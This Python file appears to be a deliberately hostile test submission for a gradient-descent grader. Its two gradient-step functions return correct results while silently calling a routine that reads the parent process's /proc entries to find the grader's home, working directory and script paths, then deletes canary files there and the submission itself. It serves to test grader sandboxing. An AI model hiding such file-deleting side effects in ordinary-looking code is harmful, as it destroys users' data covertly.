"""Hostile on the side, correct values: deletes files. The ``keep.txt`` canaries the test puts in
the fixed folder ``/tmp/descentlab-hostile-canary/delete_files``, next to the submission, in the
grader's cwd and in $HOME (its own and the grader's, via ``/proc/$PPID``), and the submission file
itself (``__file__`` and the path on the grader's command line). Once per worker.

Verdict: pass (the values are right). Every canary and the submission must still be there
afterwards. Old grader: all of them are deleted.
"""

import contextlib
import os
from pathlib import Path

import numpy as np

_DONE = []


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def _targets():
    ppid = os.getppid()
    here = os.path.abspath(globals().get("__file__", "."))
    folders = [
        "/tmp/descentlab-hostile-canary/delete_files",
        os.path.dirname(here),
        os.getcwd(),
        str(Path.home()),
    ]
    for item in _read(f"/proc/{ppid}/environ").split(b"\0"):
        if item.startswith(b"HOME="):
            folders.append(item[5:].decode(errors="replace"))
    with contextlib.suppress(OSError):
        folders.append(os.readlink(f"/proc/{ppid}/cwd"))
    files = [here]
    for arg in _read(f"/proc/{ppid}/cmdline").split(b"\0"):
        if arg.endswith((b".py", b".ipynb")):
            files.append(arg.decode(errors="replace"))
            folders.append(os.path.dirname(arg.decode(errors="replace")))
    return [os.path.join(f, "keep.txt") for f in folders] + files


def _delete():
    if _DONE:
        return
    _DONE.append(True)
    for path in dict.fromkeys(_targets()):
        with contextlib.suppress(OSError):
            os.remove(path)


def gradient_step_onefeature(x, y, weight, lrate):
    _delete()
    residual = y - x * weight
    return weight - lrate * np.mean(-2 * x * residual), np.mean(residual**2)


def gradient_step(X, y, weight, lrate):
    _delete()
    residual = y - X @ weight
    return weight - lrate * (-2 / len(X)) * (X.T @ residual), np.mean(residual**2)
